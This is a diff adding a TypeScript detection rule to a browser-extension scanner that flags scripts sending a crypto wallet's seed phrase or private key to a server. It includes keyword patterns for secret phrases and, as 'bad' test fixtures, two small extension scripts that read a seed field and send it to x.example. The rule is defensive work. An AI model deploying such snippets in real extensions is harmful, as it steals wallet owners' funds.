@@ -1,0 +1,66 @@
+import { nameOf, Op, readsNamed, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { checkScripts } from './checkScripts.ts';
+import { mentions } from './network.ts';
+import { leavesBy } from './sendings.ts';
+import { few } from './usage.ts';
+
+const WORDS = /seed|mnemonic|recovery.?phrase|secret.?phrase|private.?key|12.?word|24.?word|backup.?phrase/i;
+/** Fields, variables and keys that hold a wallet's phrase. */
+const PHRASE = /^(seed(_?phrase|_?words?)?|mnemonic(s|_?phrase)?|(recovery|secret|backup)_?phrase|phrase|private_?key|keyphrase)$/i;
+
+export const walletPhraseSent = defineRule({
+  id: 'wallet-phrase-sent',
+  title: 'The secret phrase of a wallet is sent to a server',
+  severity: 'critical',
+  confidence: 'medium',
+  category: 'privacy',
+  applies: 'extension',
+  cwe: 'CWE-522',
+  references: ['https://attack.mitre.org/techniques/T1056/003/'],
+  why: 'Whoever knows the phrase owns everything in the wallet. A real wallet uses it on the device and sends it to nobody.',
+  remedy: 'Never send a phrase or private key. Whoever has typed theirs in should move their money at once.',
+  cap: { grade: 'F', reason: 'it sends the secret of wallets to a server' },
+  check: checkScripts(function* ({ script, hit }) {
+    if (!mentions(script, WORDS)) return;
+    const typed = new Set(few(readsNamed(script, 'value', 'innerText', 'textContent'), 400).filter((value) => nameOf(script, value) === 'value' || isPhrase(script, value)));
+    const named = new Set([...typed].filter((value) => isPhrase(script, script.a[value] as number)));
+    const whole = leavesBy(script, named, ['network']);
+    if (whole !== undefined) {
+      yield hit(whole.value, { confidence: 'high', message: `It goes to ${whole.to}.` });
+      return;
+    }
+    // The field has another name, what it is kept in has not: `const mnemonic = fields.map((f) => f.value)`.
+    for (const value of phrases(script)) {
+      const out = leavesBy(script, new Set([value]), ['network']);
+      if (out === undefined || leavesBy(script, typed, ['network']) === undefined) continue;
+      yield hit(out.value, { message: `It goes to ${out.to}.` });
+      return;
+    }
+  }),
+  examples: {
+    bad: [
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<form id="f"><textarea name="seed"></textarea></form><script src="p.js"></script>', 'p.js': 'document.getElementById("f").addEventListener("submit", (e) => { const words = e.target.seed.value.trim(); fetch("https://x.example/import", { method: "POST", body: JSON.stringify({ m: words }) }); });' } },
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<input id="w1"><input id="w2"><script src="p.js"></script>', 'p.js': 'const mnemonic = [w1, w2].map((i) => i.value).join(" "); fetch("https://x.example/i?p=" + encodeURIComponent(mnemonic));' } },
+    ],
+    good: [
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<textarea id="phrase"></textarea><script src="p.js"></script>', 'p.js': 'const mnemonic = document.getElementById("phrase").value; const keys = derive(mnemonic); chrome.storage.session.set({ open: true }); fetch("https://node.example/rpc", { method: "POST", body: JSON.stringify({ method: "eth_blockNumber" }) });' } },
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<input id="q"><script src="p.js"></script>', 'p.js': 'const seed = Math.random(); fetch("https://api.example.com/search?q=" + encodeURIComponent(document.getElementById("q").value) + "&seed=" + seed);' } },
+    ],
+  },
+});
+
+function isPhrase(script: ScriptFacts, value: number): boolean {
+  return PHRASE.test(nameOf(script, value));
+}
+
+/** Values of variables that bear such a name and are made of more than a number. */
+function phrases(script: ScriptFacts): number[] {
+  const out: number[] = [];
+  for (let at = 0; at < script.defs.length && out.length < 20; at += 2) {
+    const name = script.strings[script.bindings[(script.defs[at] as number) * 3] as number] ?? '';
+    const value = script.defs[at + 1] as number;
+    if (PHRASE.test(name) && /mnemonic|phrase/i.test(name) && script.op[value] === Op.call) out.push(value);
+  }
+  return out;
+}
